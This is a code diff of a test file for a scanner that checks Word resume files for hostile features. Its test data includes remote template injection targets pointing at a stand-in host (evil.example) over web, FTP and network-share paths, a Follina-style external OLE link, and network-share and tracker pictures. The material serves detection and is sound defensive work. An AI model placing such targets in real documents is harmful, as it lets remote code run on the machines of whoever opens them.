@@ -1,6 +1,5 @@
-import { readdirSync, readFileSync } from 'node:fs';
-import path from 'node:path';
-import { corpusDir } from '@core/testing/corpus-dir';
+import { resumeAsDocx } from '@test/builders/resume-files';
+import { type SampleResumeName, sampleResume } from '@test/builders/resume-markup';
 import {
   buildCfb,
   overlappingZip,
@@ -15,8 +14,16 @@ import { describe, expect, it } from 'vitest';
 import type { Finding } from './finding';
 import { scanOffice } from './scan-office';
 
-const docxDir = path.join(corpusDir, 'resumes/docx');
-const docx = new Uint8Array(readFileSync(path.join(docxDir, 'soupboss-02-accountant.docx')));
+const samples: SampleResumeName[] = [
+  'software-engineer',
+  'registered-nurse',
+  'staff-accountant',
+  'data-analyst',
+  'teacher',
+  'student-intern',
+];
+/** A Word resume as the docx library writes it: the document every hostile variant below starts from. */
+const docx = await resumeAsDocx(sampleResume('staff-accountant'));
 const kinds = (findings: Finding[]) => findings.map((f) => `${f.kind}:${f.severity}`).sort();
 const ddeDocument = (instruction: string) =>
   '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>' +
@@ -24,13 +31,9 @@ const ddeDocument = (instruction: string) =>
   '</w:p></w:body></w:document>';
 
 describe('scanOffice', () => {
-  it('finds nothing in the real resumes of the corpus', () => {
-    for (const file of readdirSync(docxDir)) {
-      const findings = scanOffice(new Uint8Array(readFileSync(path.join(docxDir, file))));
-      expect(
-        findings.filter((f) => f.severity !== 'low'),
-        file,
-      ).toEqual([]);
+  it('finds nothing in ordinary Word resumes', async () => {
+    for (const name of samples) {
+      expect(scanOffice(await resumeAsDocx(sampleResume(name))), name).toEqual([]);
     }
   });
 
@@ -46,13 +49,6 @@ describe('scanOffice', () => {
     );
   });
 
-  it('finds a remote template attached through settings.xml.rels', () => {
-    const hostile = withZipEntries(docx, {
-      'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'https://evil.example/t.dotm'),
-    });
-    expect(kinds(scanOffice(hostile))).toContain('external-template:high');
-  });
-
   it('finds an external OLE object (the Follina pattern) and a network-share picture', () => {
     const follina = withZipEntries(docx, {
       'word/_rels/document.xml.rels': relationships('oleObject', 'mhtml:https://evil.example/x.html!x-usc:x'),
@@ -62,6 +58,19 @@ describe('scanOffice', () => {
       'word/_rels/document.xml.rels': relationships('image', '\\\\attacker\\share\\pixel.png'),
     });
     expect(kinds(scanOffice(share))).toContain('external-object:high');
+  });
+
+  it('keeps flagging linked objects, frames and pictures wherever they point, a local path included', () => {
+    const linked = (type: string, target: string) =>
+      kinds(
+        scanOffice(withZipEntries(docx, { 'word/_rels/document.xml.rels': relationships(type, target) })),
+      );
+    expect(linked('oleObject', 'file:///C:/Users/jane/Documents/budget.xlsx')).toEqual([
+      'external-object:high',
+    ]);
+    expect(linked('frame', 'https://evil.example/frame.html')).toEqual(['external-object:high']);
+    expect(linked('subDocument', 'C:\\Users\\jane\\chapter.docx')).toEqual(['external-object:high']);
+    expect(linked('image', 'https://tracker.example/pixel.png')).toEqual(['remote-content:medium']);
   });
 
   it('only counts ordinary web hyperlinks, but flags file: and script links', () => {
@@ -159,5 +168,62 @@ describe('scanOffice', () => {
     const copy = docx.slice();
     scanOffice(copy);
     expect(Object.keys(unzipSync(copy))).toContain('word/document.xml');
+  });
+});
+
+/** A document made from a template: Word names the template in settings.xml.rels, as an external target. */
+const fromTemplate = (target: string) =>
+  withZipEntries(docx, { 'word/_rels/settings.xml.rels': relationships('attachedTemplate', target) });
+
+describe('scanOffice on the template a document was made from', () => {
+  // Documents made from Office's own templates name them by their path on the author's disk: nothing is fetched.
+  it.each([
+    'file:///C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm',
+    'file:///C:/Users/jane/AppData/Roaming/Microsoft/Templates/Modern%20chronological%20resume.dotx',
+    'C:\\Users\\jane\\Documents\\Custom Office Templates\\Resume.dotx',
+    '/Users/jane/Library/Group Containers/UBF8T346G9.Office/User Content.localized/Templates.localized/Normal.dotm',
+    'FILE:///d:/Templates/Resume.dotx',
+  ])('only notes a template on a local drive: %s', (target) => {
+    const findings = scanOffice(fromTemplate(target));
+    expect(findings).toEqual([
+      {
+        severity: 'info',
+        kind: 'local-template',
+        message:
+          "This Word file names the template it was made from, on its author's computer; it loads nothing from another location.",
+      },
+    ]);
+  });
+
+  // Remote template injection: Word fetches a template on another machine (a web or FTP server, a share).
+  it.each([
+    'http://evil.example/t.dotm',
+    'https://evil.example/t.dotm',
+    'HTTPS://evil.example/t.dotm',
+    'ftp://evil.example/t.dotm',
+    '\\\\evil.example\\share\\t.dotm',
+    'file://evil.example/share/t.dotm',
+    'FiLe://evil.example/share/t.dotm',
+    'file:////evil.example/share/t.dotm',
+    'file:///\\\\evil.example\\share\\t.dotm',
+    'file:///%5C%5Cevil.example%5Cshare%5Ct.dotm',
+    // Windows reads a path starting with two slashes as a network share.
+    '//evil.example/share/t.dotm',
+    'mhtml:https://evil.example/t.mht!x',
+    // A bare name is looked up beside the document, which may itself sit on a share.
+    'Normal.dotm',
+  ])('refuses a template from another location: %s', (target) => {
+    expect(kinds(scanOffice(fromTemplate(target)))).toEqual(['external-template:high']);
+  });
+
+  it('refuses the document when a remote template sits beside a local one', () => {
+    const both =
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
+      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:/Templates/Normal.dotm" TargetMode="External"/>' +
+      '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' +
+      '</Relationships>';
+    const findings = scanOffice(withZipEntries(docx, { 'word/_rels/settings.xml.rels': both }));
+    expect(kinds(findings)).toEqual(['external-template:high', 'local-template:info']);
   });
 });
